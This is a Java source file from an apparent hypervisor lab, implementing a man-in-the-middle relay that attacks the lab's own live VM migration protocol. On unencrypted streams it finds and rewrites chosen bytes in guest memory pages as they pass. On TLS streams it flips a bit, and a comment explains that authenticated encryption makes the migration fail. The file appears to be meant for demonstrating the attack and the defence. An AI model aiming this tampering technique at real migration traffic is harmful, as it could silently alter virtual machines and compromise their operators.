package hvlab.vmmm.attack;

import hvlab.vmmm.protocol.Codec;
import hvlab.vmmm.protocol.Frames;
import hvlab.vmmm.protocol.Message;
import hvlab.vmmm.protocol.Message.Pages;

import java.io.DataInputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.function.Consumer;

/**
 * Oberheide, Cooke and Jahanian, "Empirical Exploitation of Live Virtual Machine Migration"
 * (2008): Xen and VMware sent a migrating VM's memory in the clear, so whoever sat on the path
 * could read it (keys, passwords) and change it (they patched sshd's authentication in transit).
 * This relay does the same to an hvlab migration ({@code hv attack mitm}):
 * <ul>
 *   <li>a plaintext stream ({@code --insecure}) is parsed frame by frame, every {@link Pages}
 *       message is searched for {@code find} and it is replaced by {@code replace} (same length)
 *       before the frame goes on: the VM arrives changed and nobody notices;</li>
 *   <li>a TLS stream cannot be read; the relay flips one bit of a record instead, and the target's
 *       TLS layer refuses the record (its AEAD tag does not match): the migration fails, and the
 *       VM runs on at the source. That is the whole defence: authenticated encryption and names.</li>
 * </ul>
 */
public final class MitmProxy implements AutoCloseable {
    private final ServerSocket server;
    private final InetSocketAddress to;
    private final byte[] find;
    private final byte[] replace;
    private final Consumer<String> log;
    private final AtomicInteger rewritten = new AtomicInteger();

    public MitmProxy(int listenPort, InetSocketAddress to, String find, String replace, Consumer<String> log) throws IOException {
        if (find.length() != replace.length() || find.isEmpty()) {
            throw new IllegalArgumentException("the text to find and its replacement must have the same length, not " + find.length() + " and " + replace.length());
        }
        this.server = new ServerSocket(listenPort, 5, InetAddress.getLoopbackAddress());
        this.to = to;
        this.find = find.getBytes(StandardCharsets.ISO_8859_1);
        this.replace = replace.getBytes(StandardCharsets.ISO_8859_1);
        this.log = log;
        Thread.ofVirtual().name("hvlab-mitm").start(this::accept);
    }

    public InetSocketAddress address() {
        return new InetSocketAddress(server.getInetAddress(), server.getLocalPort());
    }

    /** How many times the text was replaced in pages that passed. */
    public int rewritten() {
        return rewritten.get();
    }

    private void accept() {
        while (!server.isClosed()) {
            try {
                Socket in = server.accept();
                Socket out = new Socket(to.getAddress(), to.getPort());
                Thread.ofVirtual().start(() -> relay(out, in, false));
                Thread.ofVirtual().start(() -> relay(in, out, true));
            } catch (IOException e) {
                return;
            }
        }
    }

    /** Copies {@code from} to {@code to}; towards the target ({@code forward}), tampers with what it can. */
    private void relay(Socket from, Socket to, boolean forward) {
        try (from; to; InputStream in = from.getInputStream(); OutputStream out = to.getOutputStream()) {
            if (!forward) {
                in.transferTo(out);
                return;
            }
            DataInputStream data = new DataInputStream(in);
            int first = data.read();
            if (first < 0) return;
            if (first == 0xA7) {
                log.accept("plaintext hvlab stream: reading every frame, rewriting '" + new String(find, StandardCharsets.ISO_8859_1) + "' in guest memory");
                rewriteFrames(first, data, out);
            } else {
                log.accept("TLS stream (record type " + first + "): nothing readable; flipping one bit of a record to try to tamper");
                out.write(first);
                byte[] buffer = new byte[16384];
                long passed = 1;
                boolean flipped = false;
                int n;
                while ((n = data.read(buffer)) > 0) {
                    passed += n;
                    if (!flipped && passed > 4096 && n > 64) {
                        buffer[n / 2] ^= 0x01; // inside some record's ciphertext: its AEAD tag no longer matches
                        flipped = true;
                    }
                    out.write(buffer, 0, n);
                    out.flush();
                }
            }
        } catch (IOException ignored) {
            // one side closed
        }
    }

    private void rewriteFrames(int first, DataInputStream in, OutputStream out) throws IOException {
        int magic = first;
        while (true) {
            int type = in.read();
            if (type < 0 || magic != 0xA7) return;
            int length = in.readInt();
            if (length < 0 || length > Frames.MAX_FRAME) return;
            byte[] payload = in.readNBytes(length);
            if (type == 10) {
                Message message = Codec.decode(type, payload);
                if (message instanceof Pages pages && patch(pages.data())) {
                    payload = Codec.encode(pages);
                }
            }
            out.write(new byte[] {(byte) 0xA7, (byte) type, (byte) (payload.length >>> 24), (byte) (payload.length >>> 16),
                    (byte) (payload.length >>> 8), (byte) payload.length});
            out.write(payload);
            out.flush();
            magic = in.read();
            if (magic < 0) return;
        }
    }

    private boolean patch(byte[] data) {
        boolean changed = false;
        outer:
        for (int i = 0; i + find.length <= data.length; i++) {
            for (int j = 0; j < find.length; j++) {
                if (data[i + j] != find[j]) continue outer;
            }
            System.arraycopy(replace, 0, data, i, replace.length);
            rewritten.incrementAndGet();
            log.accept("rewrote '" + new String(find, StandardCharsets.ISO_8859_1) + "' at byte " + i + " of a Pages message");
            changed = true;
        }
        return changed;
    }

    @Override
    public void close() throws IOException {
        server.close();
    }
}
